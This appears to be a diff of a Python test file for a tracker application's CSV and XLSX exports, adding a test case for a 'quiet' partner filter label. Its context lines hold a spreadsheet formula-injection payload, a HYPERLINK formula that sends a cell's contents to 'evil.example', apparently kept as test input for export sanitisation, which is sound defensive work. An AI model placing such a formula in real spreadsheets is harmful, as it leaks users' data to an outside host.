@@ -68,6 +68,7 @@ from tracker.i18n import catalogue, speaking
 BASE = "https://tracker.uni.example/"
 HOSTILE = '=HYPERLINK("http://evil.example/"&A1)'
 _ASKED = "=Ветеринария бойынша қайта даярлау"
+_QUIET = catalogue()["quiet.only"]["en"]
 SHEETS = [Format.CSV, Format.XLSX]
 
 
@@ -363,6 +364,7 @@ def test_a_list_without_rows_still_says_why(session: Session) -> None:
         (Kind.FOLLOW_UP, {"status": FollowUpStatus.DONE}, "Shown: Done"),
         (Kind.FOLLOW_UP, {"owner_id": 404}, "Owner: 404"),
         (Kind.PARTNER, {"tag": "nothing"}, "Tag: nothing"),
+        (Kind.PARTNER, {"tag": "nothing", "quiet": True}, f"Shown: {_QUIET}"),
         (Kind.INTERACTION, {"colleague_id": boris.id}, f"Colleague: {boris.name}"),
         (Kind.NEWS_ITEM, {"until": date(1999, 1, 2)}, "To: 02/01/1999"),
     ):
